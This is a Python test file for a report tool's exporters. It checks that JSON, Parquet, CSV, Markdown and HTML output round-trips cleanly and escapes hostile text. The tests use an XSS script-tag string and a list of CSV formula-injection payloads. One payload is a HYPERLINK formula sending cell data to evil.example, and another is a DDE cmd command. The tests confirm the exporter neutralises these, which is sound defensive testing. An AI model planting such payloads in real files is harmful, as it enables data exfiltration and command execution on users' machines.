"""The built-in exporters: each writes the same findings, readable back; hostile text stays text."""

from __future__ import annotations

import base64
import hashlib
import html
import json
import re
from html.parser import HTMLParser

import polars as pl
import pytest

from safer_audit.backends.exporters import PARQUET_METADATA_KEY
from safer_audit.report.types import Report, export_report, findings_from_frame

from .test_report import TRICKY, make_report


@pytest.fixture
def report() -> Report:
    return make_report()


def _by_rank(report: Report):
    return sorted(report.findings, key=lambda f: f.rank)


def test_json_reads_back_equal(report, tmp_path):
    path = tmp_path / "report.json"
    assert export_report(report, path).name == "json"
    assert Report.from_dict(json.loads(path.read_text(encoding="utf-8"))) == report


def test_json_is_strict_json_with_the_schema_version(report, tmp_path):
    path = tmp_path / "report.json"
    export_report(report, path)
    data = json.loads(path.read_text(encoding="utf-8"), parse_constant=pytest.fail)
    assert data["schema_version"] == 1
    assert data["run"]["sae_hash"] == "cd" * 32
    assert [f["rank"] for f in data["findings"]] == [1, 2, 3, 4]


def test_json_refuses_nan_rather_than_writing_invalid_json(report, tmp_path):
    report.findings[0].score_safe = float("nan")
    with pytest.raises(ValueError):
        export_report(report, tmp_path / "report.json")
    assert list(tmp_path.iterdir()) == []


def test_parquet_reads_back_equal(report, tmp_path):
    path = tmp_path / "report.parquet"
    assert export_report(report, path).name == "parquet"
    assert findings_from_frame(pl.read_parquet(path)) == _by_rank(report)
    # the key is part of the file format: readers of earlier reports look it up by this name
    assert PARQUET_METADATA_KEY == "safer_audit.report"
    header = json.loads(pl.read_parquet_metadata(path)[PARQUET_METADATA_KEY])
    assert Report.from_dict(header | {"findings": []}) == Report(report.run, report.features, [])


def test_parquet_and_json_hold_the_same_findings(report, tmp_path):
    export_report(report, tmp_path / "r.json")
    export_report(report, tmp_path / "r.parquet")
    from_json = Report.from_dict(json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))).findings
    from_parquet = findings_from_frame(pl.read_parquet(tmp_path / "r.parquet"))
    assert sorted(from_json, key=lambda f: f.rank) == from_parquet


def test_csv_reads_back_equal(report, tmp_path):
    path = tmp_path / "report.csv"
    export_report(report, path)
    frame = pl.read_csv(path, schema_overrides={"pair_id": pl.String})
    assert frame.height == len(report.findings)
    assert findings_from_frame(frame) == _by_rank(report)
    assert frame["chosen"][1] == TRICKY  # commas, quotes and newlines survive


def test_markdown_escapes_pipes_and_markup(report, tmp_path):
    path = tmp_path / "report.md"
    export_report(report, path)
    text = path.read_text(encoding="utf-8")
    rows = [line for line in text.splitlines() if line.startswith("| 1 |") or line.startswith("| 2 |")]
    assert len(rows) == 2
    for row in rows:
        # Every row has exactly the header's 10 cells: escaped pipes do not split cells.
        assert len(re.split(r"(?<!\\)\|", row)) == 10 + 2
    assert "<script>" not in text and "&lt;script&gt;" in text
    assert "<b>" not in text
    assert "refusal \\| apology" in text
    assert "**Here is how to do it: &lt;script&gt;" in text  # the differing span is bold
    assert "hh-1 |" not in text  # clean pairs are not suspects


class _Collector(HTMLParser):
    """Collects the elements and the visible text of a page, as a browser would parse it."""

    def __init__(self):
        super().__init__()
        self.tags: list[str] = []
        self.scripts: list[str] = []  # the scripts a browser runs (not JSON data blocks)
        self.data_blocks: list[str] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self._in_script = tag == "script"
        self._data = self._in_script and dict(attrs).get("type") == "application/json"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            (self.data_blocks if self._data else self.scripts).append(data)
        else:
            self.text.append(data)


def _parse(path) -> _Collector:
    collector = _Collector()
    collector.feed(path.read_text(encoding="utf-8"))
    return collector


def test_html_shows_script_in_data_as_text(report, tmp_path):
    path = tmp_path / "report.html"
    export_report(report, path)
    page = _parse(path)
    assert len(page.scripts) == 1 and len(page.data_blocks) == 2  # the page's own script; its data, every pair
    assert "b" not in page.tags  # the "<b>" in TRICKY stays text
    visible = "".join(page.text)
    assert "<script>alert('x')</script>" in visible
    assert "<b>bold</b>" in visible


def test_html_script_is_the_only_one_the_page_allows(report, tmp_path):
    path = tmp_path / "report.htm"
    assert export_report(report, path).name == "html"
    page = _parse(path)
    (script,) = page.scripts
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', path.read_text(encoding="utf-8"))
    assert f"script-src 'sha256-{digest}'" in html.unescape(policy.group(1))


def test_html_is_self_contained_with_summary_table_and_cards(report, tmp_path):
    path = tmp_path / "report.html"
    export_report(report, path)
    text = path.read_text(encoding="utf-8")
    assert not re.search(r'\s(src|href)=', text)  # nothing loaded from elsewhere
    visible = "".join(_parse(path).text)
    assert "pairs scanned" in visible and "FVU 0.123" in visible
    assert 'class="sortable suspects"' in text
    assert text.count("<tr data-digest=") == 3  # one row per suspect
    assert "latent 412 — refusal | apology" in visible and "latent 9" in visible
    assert "hh-1: …I won't help with <script>… (3.5)" in visible
    assert "fires most on: sorry ×12, <script> ×2" in visible


def test_html_marks_the_firing_token_in_contexts(report, tmp_path):
    path = tmp_path / "report.html"
    export_report(report, path)
    assert "I won&#x27;t <mark>help</mark> with &lt;script&gt;" in path.read_text(encoding="utf-8")


@pytest.mark.parametrize("suffix", [".json", ".csv", ".parquet", ".md", ".html"])
def test_every_exporter_replaces_an_old_file_whole(report, tmp_path, suffix):
    path = tmp_path / f"report{suffix}"
    path.write_bytes(b"old content that is longer than nothing" * 1000)
    export_report(report, path)
    assert b"old content" not in path.read_bytes()
    assert [p.name for p in tmp_path.iterdir()] == [path.name]  # no temporary file left


def test_csv_cells_a_spreadsheet_would_run_are_quoted(report, tmp_path):
    import csv

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1:A9)",
               "\tleading tab", "\rleading CR"]
    first, second, third = _by_rank(report)[:3]
    first.chosen, first.rejected, first.context = hostile[0], hostile[1], hostile[2]
    second.chosen, second.rejected, second.context = hostile[3], hostile[4], hostile[5]
    third.chosen, third.pair_id = hostile[6], "-7"
    first.score_safe, first.reward_margin = -1.25, -0.5
    path = tmp_path / "report.csv"
    export_report(report, path)
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    cells = [rows[0]["chosen"], rows[0]["rejected"], rows[0]["context"], rows[1]["chosen"], rows[1]["rejected"],
             rows[1]["context"], rows[2]["chosen"]]
    assert cells == ["'" + text for text in hostile]
    assert rows[2]["pair_id"] == "'-7"  # an id is text, however numeric it looks
    assert rows[0]["score_safe"] == "-1.25" and rows[0]["reward_margin"] == "-0.5"  # numbers stay numbers
    assert rows[3]["chosen"] == _by_rank(report)[3].chosen  # plain text is written as it is
    frame = pl.read_csv(path, schema_overrides={"pair_id": pl.String})
    assert frame.schema["score_safe"] == pl.Float64 and frame["score_safe"][0] == -1.25
